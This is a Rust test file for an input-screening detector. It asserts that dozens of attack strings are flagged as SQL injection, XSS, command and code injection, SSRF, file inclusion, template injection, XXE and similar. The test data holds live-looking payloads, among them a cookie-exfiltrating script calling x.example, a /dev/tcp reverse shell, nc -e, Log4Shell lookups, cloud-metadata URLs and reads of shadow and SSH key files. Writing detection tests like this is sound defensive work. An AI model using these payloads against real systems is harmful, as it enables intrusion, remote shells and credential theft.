use super::super::super::Kind;
use super::{ArgumentScreen, denials};

/// Each of these is found as what it is.
fn all_are(kind: Kind, attacks: &[&str]) {
    for attack in attacks {
        let found = denials(attack);
        assert!(found.iter().any(|detection| detection.kind == kind), "{attack:?}: {found:?}");
    }
}

#[test]
fn sql_injection() {
    all_are(
        Kind::SqlInjection,
        &[
            "' OR 7=7 -- ",
            "x' or 'k'='k",
            "bob'--",
            "bob') #",
            "3 OR 5>4",
            "12 and sleep(9)",
            "sleep(9)",
            "sleep(9 or 1)",
            "sleep(9 )",
            "9 union all select login, secret from members",
            "-5' UNION/*x*/SELECT null,null,@@version#",
            "0 or (select count(*) from pg_catalog.pg_tables)>0",
            "blue'; DROP TABLE orders; --",
            "1;exec master..xp_cmdshell 'ping 10.1.1.1'",
            "';waitfor delay '0:0:9'--",
            "8 order by 14-- -",
            "5' having 2=2#",
            "' and extractvalue(1,concat(0x3a,version()))-- ",
            "cat'||(select password from staff limit 1)||'",
            "5-(case when (2>1) then 1 else 0 end)",
            "z' in (select name from sqlite_master) --",
            "' or name is not null or name='",
            "x' AND ASCII(SUBSTRING(user(),1,1))>64 AND 'b'='b",
            "1 into outfile '/var/www/s.php'",
            "1 procedure analyse(extractvalue(5,version()),1)",
            "select load_file('/srv/key')",
            "(select pg_sleep(4))",
        ],
    );
}

#[test]
fn cross_site_scripting() {
    all_are(
        Kind::Xss,
        &[
            "<script>fetch('//x.example/'+document.cookie)</script>",
            "<img src=q onerror=confirm`9`>",
            "\" autofocus onfocus=prompt(4) x=\"",
            "<svg/onload=alert(7)>",
            "<a href=\"java\tscript:alert(3)\">go</a>",
            "<iframe srcdoc='<b>x'></iframe>",
            "javascript:void(alert(2))",
            "';alert(String.fromCharCode(88));//",
            "<details open ontoggle=print()>",
            "<div style=\"width:expression(alert(1))\">",
            "<object data=data:text/html;base64,PHNjcmlwdD4=>",
            "</textarea><b>",
            "<math><mi xlink:href=\"javascript:alert(1)\">",
            "-alert(1)-",
            "window['al'+'ert'](1)",
        ],
    );
}

#[test]
fn command_injection() {
    all_are(
        Kind::CommandInjection,
        &[
            "; cat /etc/hostname",
            "photo.png|id",
            "a && curl http://x.example/s.sh -o /tmp/s",
            "$(whoami)",
            "`uname -a`",
            "x;${IFS}nc${IFS}-e",
            "() { :;}; echo hi",
            "127.0.0.1; ls -la",
            "| net user eve secret /add",
            "& dir c:\\",
            "powershell -enc SQBFAFgA",
            "bash -i >& /dev/tcp/192.0.2.7/99",
            "/usr/bin/env",
            "%0awget http://x.example",
        ],
    );
}

#[test]
fn code_injection() {
    all_are(
        Kind::CodeInjection,
        &[
            "<?php echo shell_exec($_GET['q']); ?>",
            "require('child_process').execSync('id')",
            "java.lang.ProcessBuilder",
            "O:8:\"Evil\":1:{s:1:\"a\";i:1;}",
            "rO0ABXNyABFqYXZh",
            "x[__proto__][admin]=1",
        ],
    );
}

#[test]
fn file_inclusion() {
    all_are(
        Kind::FileInclusion,
        &[
            "../../../srv/app/secrets.yml",
            "..\\..\\..\\windows\\win.ini",
            "/etc/shadow",
            "....//....//etc/hosts",
            "php://filter/convert.base64-encode/resource=index",
            "file:///proc/self/environ",
            "C:\\boot.ini",
            "templates/..%2f..%2f..%2fkeys",
            "/var/log/auth.log",
            "/home/../.ssh/id_rsa",
            "phar://up/load.jpg",
        ],
    );
}

#[test]
fn forged_requests_and_remote_files() {
    all_are(
        Kind::Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/iam",
            "https://metadata.google.internal/computeMetadata/v1/",
            "http://localhost:8080/admin",
            "http://127.1/",
            "http://2130706433/",
            "http://0x7f.0.0.1/x",
            "http://0177.0.0.1",
            "http://[::1]:22/",
            "http://[::ffff:10.0.0.8]/",
            "http://good.example@10.0.0.5/",
            "http://192.168.1.1/cgi",
            "gopher://x.example:6379/_FLUSHALL",
            "dict://x.example:11211/stat",
            "//localhost/x",
            "http://localhost#@x.example/",
            "http://x.example#@10.1.2.3/",
            "http://①②⑦.⓪.⓪.①/",
            "\\\\10.0.0.9\\c$",
            "jar:http://x.example!/",
            "http://a::::::::::::::::@10.9.9.9/",
            "http:a=http://169.254.169.254/",
            "http://app.127.0.0.1.nip.io/",
        ],
    );
    all_are(
        Kind::RemoteFileInclusion,
        &[
            "http://x.example/shell.txt?",
            "/index.php?page=http://x.example/c99.txt?",
            "http://203.0.113.9/a.php",
        ],
    );
}

#[test]
fn template_injection() {
    all_are(
        Kind::TemplateInjection,
        &[
            "{{9*9}}",
            "${8*8}",
            "#{6*7}",
            "<%= 3 * 4 %>",
            "{{ ''.__class__.__mro__ }}",
            "{{ config.items() }}",
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:rmi://x.example}",
            "${T(java.lang.Runtime).getRuntime()}",
            "<#assign x=\"freemarker\"?new()>",
            "#set($x = 'y')",
            "{% import os %}",
            "@(2+3)",
            "{{ x|attr('y') }}",
            "*{T(java.lang.System).getenv()}",
            "%{(#a=@java.lang.Runtime@getRuntime())}",
            "{$smarty.version}",
        ],
    );
}

#[test]
fn other_queries() {
    all_are(
        Kind::NosqlInjection,
        &[
            "{\"$gt\": \"\"}",
            "[$ne]=x",
            "$where: 'sleep(9)'",
            "' && this.secret.match(/a/)//",
            "db.users.drop()",
        ],
    );
    all_are(
        Kind::LdapInjection,
        &["*)(uid=*))(|(uid=*", "bob)(&(cn=*", "x)(|(objectClass=*)", "*)(mail=*"],
    );
    all_are(
        Kind::XpathInjection,
        &["' or count(//*)>3 or 'a'='b", "x'] | //user", "a/ancestor::node()"],
    );
}

#[test]
fn markup_and_lines() {
    all_are(
        Kind::Xxe,
        &[
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///srv/k\">]><r>&x;</r>",
            "<!DOCTYPE r SYSTEM \"http://x.example/e.dtd\">",
            "<xi:include href=\"/srv/k\" parse=\"text\"/>",
        ],
    );
    all_are(
        Kind::ServerSideInclude,
        &["<!--#exec cmd=\"id\" -->", "<!--#include virtual=\"/x\"-->", "<esi:include src=\"x\"/>"],
    );
    all_are(
        Kind::CrlfInjection,
        &[
            "en%0d%0aSet-Cookie: a=b",
            "x\r\nLocation: http://x.example",
            "%0d%0a%0d%0a<b>hi",
            "a%0aContent-Length:%200",
        ],
    );
}

#[test]
fn at_most_one_detection_of_each_kind() {
    let text = "' or 1=1 -- <script>alert(1)</script> ; cat /etc/passwd ".repeat(50);
    let found = ArgumentScreen::new().screen(&text);
    let mut kinds: Vec<Kind> = found.iter().map(|detection| detection.kind).collect();
    kinds.sort();
    let all = kinds.len();
    kinds.dedup();
    assert_eq!(kinds.len(), all);
    assert!(all >= 4, "{found:?}");
}

#[test]
fn a_detection_says_where() {
    let text = "hello <script>alert(1)</script>";
    let found = denials(text);
    assert!(
        found.iter().any(|found| text[found.range.clone()].starts_with("<script")),
        "{found:?}"
    );
    // Places of the text as it was given, not as it was decoded.
    let text = "h%65llo ü %3cscript%3e";
    let found = denials(text);
    assert!(
        found.iter().any(|found| text[found.range.clone()].starts_with("%3cscript")),
        "{found:?}"
    );
}
